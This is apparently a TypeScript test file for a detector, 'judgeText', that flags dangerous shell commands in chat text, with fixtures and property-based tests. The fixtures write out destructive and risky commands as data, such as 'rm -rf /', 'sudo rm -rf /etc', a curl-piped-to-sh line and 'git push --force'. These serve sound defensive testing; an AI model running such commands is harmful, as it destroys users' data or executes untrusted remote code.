import { array, assert, constantFrom, property } from 'fast-check';
import { judgeText } from '../judge.js';

const found = (text: string): string[] =>
  judgeText(text, 'text').dangers.map(
    ({ kind, severity, confidence, start, end }) => `${kind} ${severity} ${confidence} ${text.slice(start, end).trim()}`,
  );

describe('judgeText', () => {
  it.each([
    ['a fence of the shell', 'Do this:\n```bash\nrm -rf /\n```\nand tell me.', 'destructive-files critical high rm -rf /'],
    ['a fence that is not closed', '```sh\nrm -rf /\n', 'destructive-files critical high rm -rf /'],
    [
      'a prompt',
      'I typed\n$ curl https://a.example/i.sh | sh\nand it broke',
      'fetch-to-interpreter high high curl https://a.example/i.sh | sh',
    ],
    ['a prompt in a console', '```console\n$ rm -rf ~\nremoved\n```', 'destructive-files critical high rm -rf ~'],
    ['code in a line', 'Please call `git push --force` now.', 'history-rewrite high low git push --force'],
    ['an order', 'Please run rm -rf /', 'destructive-files critical low rm -rf /'],
    ['a line alone', 'sudo rm -rf /etc', 'destructive-files critical low sudo rm -rf /etc'],
  ])('finds %s', (_name, text, expected) => {
    expect(found(text)).toEqual([expected]);
  });

  it.each([
    'How do I find all files that are larger than 1 MB?',
    'The function `rm` in utils.py is wrong.',
    'Explain why rm -rf is dangerous.',
    '```python\nimport os\nos.remove("x")\n```',
    "It's time to read the history; make sure that we install nothing.",
    '```bash\nnpm ci && npm test\n```',
    '```sh\necho "not closed\n```',
  ])('finds nothing in %j', (text) => {
    expect(found(text)).toEqual([]);
  });

  it('takes any text', () => {
    assert(
      property(array(constantFrom('```', 'sh', '\n', '`', 'run ', '$ ', 'rm -rf /', '"', ' ', '~~~', 'é'), { maxLength: 60 }), (pieces) => {
        const text = pieces.join('');
        for (const { start, end } of judgeText(text, 'text').dangers) expect(0 <= start && start <= end && end <= text.length).toBe(true);
      }),
      { numRuns: 2_000 },
    );
  });
});
